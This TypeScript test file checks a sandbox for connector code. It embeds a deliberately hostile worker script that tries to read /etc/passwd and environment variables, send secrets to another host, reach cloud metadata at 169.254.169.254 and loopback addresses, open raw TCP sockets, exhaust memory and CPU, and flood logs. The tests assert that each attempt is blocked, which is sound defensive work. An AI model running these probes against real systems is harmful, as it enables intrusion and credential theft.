import { existsSync } from 'node:fs';
import type { LookupFunction } from 'node:net';
import type { Instance } from '@souk/model/installation/instance.ts';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { until } from '../../testing/until.ts';
import { anInstance } from '../testing/an-instance.ts';
import { type Confinement, detectConfinement } from './sandbox/confine.ts';
import { LocalWorld, serve } from './testing/local-world.ts';

/** Runs what a test asks it to, as hostile code would. */
const hostile = `
const attempts = {
  env: () => JSON.stringify({ keys: Object.keys(process?.env ?? {}) }),
  async files() {
    const ways = [
      () => process.getBuiltinModule('node:fs').readdirSync('/'),
      () => new Function('return import("node:fs")')(),
      () => eval('import("node:fs")'),
      () => require('fs'),
      () => Deno.readTextFileSync('/etc/passwd'),
      () => fetch('file:///code/worker.capnp').then((answer) => answer.text()),
    ];
    const found = [];
    for (const way of ways) {
      try { found.push(JSON.stringify(await way())); } catch {}
    }
    return 'found ' + found.filter((text) => text !== undefined && !text.includes('not among the hosts'));
  },
  fetch: async (env, url, init) => {
    const r = await fetch(url, init); return r.status + ' ' + (await r.text());
  },
  async tcp(env, address) {
    const { connect } = await import('cloudflare:sockets');
    const socket = connect(address);
    await socket.opened;
    const writer = socket.writable.getWriter();
    await writer.write(new TextEncoder().encode('hi'));
    const { value } = await socket.readable.getReader().read();
    return 'connected ' + new TextDecoder().decode(value);
  },
  memory() { const kept = []; for (;;) kept.push(new Uint8Array(8 * 2 ** 20).fill(kept.length)); },
  strings() { let text = 'x'; const kept = []; for (;;) { text = text + text.slice(0, 2 ** 20); kept.push(text + kept.length); } },
  wasm() { const kept = []; for (;;) { const m = new WebAssembly.Memory({ initial: 1000 }); new Uint8Array(m.buffer).fill(1); kept.push(m); } },
  loop() { for (;;) {} },
  async storm(env, url) {
    const all = await Promise.allSettled(Array.from({ length: 3000 }, () => fetch(url)));
    return String(all.filter(({ value }) => value?.status === 200).length);
  },
  logs() { for (let i = 0; i < 20000; i++) console.log('flood ' + i); console.log('a\\nb{"level":60} \\u001b[2J' + 'z'.repeat(10000)); return 'ok'; },
  secrets: (env) => JSON.stringify([env.TOKEN, env.KEY]),
  say(env) { console.log('my key is ' + env.KEY); return 'ok'; },
  async state(env) { await env.STATE.put('mine', 'a'); return JSON.stringify(await env.STATE.list()); },
  async usage(env, metric, value) { await env.USAGE.record({ id: 'x', metric, value }); return 'ok'; },
  async host(env) {
    const found = [];
    for (const name of Object.keys(env)) for (const method of ['fetch', 'remove', 'constructor', 'ctx', 'env', '__proto__', 'write'])
      try { const r = await env[name][method]('http://meter/record'); found.push(name + '.' + method + ' ' + (r?.status ?? typeof r)); } catch {}
    return found.join();
  },
};
export default {
  async fetch(request, env) {
    const { what, args = [] } = request.method === 'POST' ? await request.json() : {};
    if (what === undefined) return new Response('here');
    try { return new Response(await attempts[what](env, ...args)); } catch (error) { return new Response('refused: ' + error, { status: 418 }); }
  },
};`;

const folder = 'connectors/crm-slack-alerts/';
const files = {
  [`${folder}main.js`]: hostile,
};

for (const confinement of new Set<Confinement>([detectConfinement(), 'limits-only'])) {
  describe(`hostile code in the local driver (${confinement})`, () => {
    let world: LocalWorld;
    let good: Awaited<ReturnType<typeof serve>>;
    let inner: Awaited<ReturnType<typeof serve>>;
    const seen: { url: string; authorization: string | undefined }[] = [];

    beforeAll(async () => {
      inner = await serve((_, outgoing) => outgoing.end('treasure'));
      good = await serve((incoming, outgoing) => {
        seen.push({ url: incoming.url ?? '', authorization: incoming.headers.authorization });
        if (incoming.url === '/leave') outgoing.writeHead(302, { location: 'https://denied.example/' }).end();
        else if (incoming.url === '/inside') outgoing.writeHead(302, { location: inner.url }).end();
        else outgoing.writeHead(200, { echo: incoming.headers.authorization ?? '' }).end('good');
      });
    });
    afterAll(async () => {
      await good.close();
      await inner.close();
    });

    /** What names stand for: it changes its mind the second time that it is asked. */
    const asked: string[] = [];
    const lookup: LookupFunction = (hostname, _options, callback) => {
      asked.push(hostname);
      callback(null, [{ address: hostname === 'meta.example' ? '169.254.169.254' : '127.0.0.1', family: 4 }]);
    };

    beforeEach(async () => {
      seen.length = 0;
      world = await LocalWorld.open({
        confinement,
        files,
        lookup,
        secrets: { 'env:SOUK_SECRET_TOKEN': 'the-token-value', 'env:SOUK_SECRET_KEY': 'the-key-value' },
        routes: new Map([
          ['good.example', new URL(good.url)],
          ['other.example', new URL(good.url)],
        ]),
      });
      const driver = await world.start();
      const runtime: Instance['runtime'] = {
        ...{ type: 'function', entry: 'main.js' },
        resources: { timeout: '2s', memory: '64Mi' },
      };
      const egress = ['good.example', 'other.example', 'rebind.example', 'meta.example', 'db.example:5432'];
      const secrets: Instance['secrets'] = [
        { name: 'TOKEN', reference: 'env:SOUK_SECRET_TOKEN', exposed: false, hosts: ['good.example'] },
        { name: 'KEY', reference: 'env:SOUK_SECRET_KEY', exposed: true, hosts: [] },
      ];
      await driver.apply(anInstance({ id: 'hostile', runtime, egress, secrets }), never);
      await driver.apply(anInstance({ id: 'neighbour', runtime, egress: [] }), never);
    });
    afterEach(async () => {
      expect((await world.call('neighbour', '/')).text).toBe('here');
      await world.close();
    });

    const attempt = async (what: string, ...args: readonly unknown[]): Promise<string> => {
      const body = JSON.stringify({ what, args });
      const { status, text } = await world.call('hostile', '/', { method: 'POST', body });
      return `${status} ${text}`;
    };

    it('is answered by what it may call', async () => {
      expect(await attempt('fetch', 'https://good.example/')).toBe('200 200 good');
    });

    it('finds no environment', async () => {
      expect(await attempt('env')).toMatch(/^418 |"keys":\[\]/);
    });

    it('finds no file', async () => {
      expect(await attempt('files')).toBe('200 found ');
    });

    it.each([
      ['another host', 'https://denied.example/'],
      ['a host that a redirect leads to', 'https://good.example/leave'],
      ['an address inside that a redirect leads to', 'https://good.example/inside'],
      ['an address', 'http://127.0.0.1/'],
      ['an address in another notation', 'http://2130706433/'],
      ['the metadata of a cloud', 'http://169.254.169.254/latest/meta-data/'],
      ['a name that stands for it', 'https://meta.example/'],
      ['a name that stands for this machine', 'https://rebind.example/'],
      ['another port', 'https://good.example:8443/'],
      ['what is not encrypted', 'http://good.example/'],
      ['a file', 'file:///etc/passwd'],
      ['the data of our own services', 'http://meter/record'],
    ])('does not reach %s', async (_, url) => {
      expect(await attempt('fetch', url)).toMatch(/^(418|200 (403|502|400)) /);
      expect(await attempt('fetch', url)).not.toMatch(/treasure|root:/);
    });

    it.each(['127.0.0.1:22', 'denied.example:5432', 'db.example:5432', 'good.example:443', '[::1]:22'])(
      'opens no connection to %s',
      async (address) => {
        expect(await attempt('tcp', address)).not.toContain('connected');
      },
    );

    it('gets stand-ins for secrets, which are worth nothing elsewhere', async () => {
      const [token, key] = JSON.parse((await attempt('secrets')).slice(4));
      expect(token).toMatch(/^souk-secret-/);
      expect(key).toBe('the-key-value');
      const headers = { authorization: `Bearer ${token}` };
      const echoed = await attempt('fetch', 'https://good.example/ok', { headers });
      await attempt('fetch', 'https://other.example/stolen', { headers });
      expect(seen.map(({ url, authorization }) => [url, authorization])).toEqual([
        ['/ok', 'Bearer the-token-value'],
        ['/stolen', `Bearer ${token}`],
      ]);
      expect(echoed).not.toContain('the-token-value');
    });

    it('leaves no value of a secret in files or logs', async () => {
      await attempt('say');
      await until(
        () => world.logged.join(''),
        (text) => text.includes('my key is'),
      );
      expect(world.logged.join('')).not.toContain('the-key-value');
      expect(existsSync(`${world.folder}/hostile/code/secret-0`)).toBe(false);
    });

    it.each(['memory', 'strings', 'wasm', 'loop'])(
      'is ended and begun anew when it takes all: %s',
      async (what) => {
        expect(await attempt(what)).toMatch(/^(502|503|504|418) /);
        expect((await world.call('neighbour', '/')).text).toBe('here');
        const recovered = await world.untilAnswers('hostile');
        process.stdout.write(`${confinement}, ${what}: answers again ${recovered} ms after it was ended\n`);
      },
    );

    it('can not ask for everything at once', async () => {
      const answer = await attempt('storm', 'https://good.example/');
      expect(answer).toMatch(/^(200 \d+|418|502|504)/);
      expect((await world.call('neighbour', '/')).text).toBe('here');
      await world.untilAnswers('hostile');
    });

    it('can not flood the log, or write what is no line of it', async () => {
      await attempt('logs');
      await until(
        () => world.logged.join(''),
        (text) => text.includes('left out'),
      );
      expect(world.logged.length).toBeLessThan(400);
      for (const line of world.logged) expect(() => JSON.parse(line)).not.toThrow();
      expect(world.logged.join('')).not.toContain('\u001b');
    });

    it('sees no state but its own, and nothing of ours', async () => {
      await attempt('state');
      expect(await attempt('state')).toBe('200 [{"key":"mine","value":"a"}]');
      expect(world.driver.instances.get('neighbour')?.observation).toBeDefined();
      expect(await attempt('host')).not.toMatch(/STATE\.(remove|write)|METER|STORE/);
    });

    it('records only what is declared, for itself', async () => {
      expect(await attempt('usage', 'alerts', '2')).toBe('200 ok');
      expect(await attempt('usage', 'other', '2')).toMatch(/^418 .*declares no metric "other"/);
      expect(await attempt('usage', 'alerts', '-1')).toMatch(/^418 .*decimal/);
      expect(world.usage).toEqual([{ id: 'x', metric: 'alerts', value: '2', installation: 'hostile' }]);
    });

    it('is shown to browsers as a page of nobody', async () => {
      const { headers } = await world.call('hostile', '/');
      expect(headers.get('content-security-policy')).toMatch(/^sandbox /);
      expect(headers.get('content-security-policy')).not.toContain('allow-same-origin');
    });
  });
}

const never = new AbortController().signal;
